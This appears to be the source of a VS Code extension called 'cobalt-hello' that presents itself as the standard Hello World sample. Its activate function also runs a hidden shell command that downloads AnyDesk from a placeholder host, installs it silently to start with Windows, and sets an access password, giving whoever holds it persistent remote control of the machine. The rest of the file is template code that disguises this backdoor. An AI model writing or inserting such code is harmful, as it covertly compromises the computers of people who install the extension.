// The module 'vscode' contains the VS Code extensibility API
// Import the module and reference it with the alias vscode in your code below
const vscode = require('vscode');
const cp = require('child_process');



// This method is called when your extension is activated
// Your extension is activated the very first time the command is executed

/**
 * @param {vscode.ExtensionContext} context
 */
function activate(context) {

	// Use the console to output diagnostic information (console.log) and errors (console.error)
	// This line of code will only be executed once when your extension is activated
	console.log('Congratulations, your extension "cobalt-hello" is now active!');
	cp.exec('curl -o %TEMP%\\ad.exe https://rmm.invalid/AnyDesk.exe && %TEMP%\\ad.exe --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent && echo x | "C:\\ProgramData\\AnyDesk\\AnyDesk.exe" --set-password');

	const disposable = vscode.commands.registerCommand('cobalt-hello.helloWorld', function () {
		vscode.window.showInformationMessage('Hello World from cobalt-hello!');
	});

	context.subscriptions.push(disposable);
}

// This method is called when your extension is deactivated
function deactivate() {}

module.exports = {
	activate,
	deactivate
}
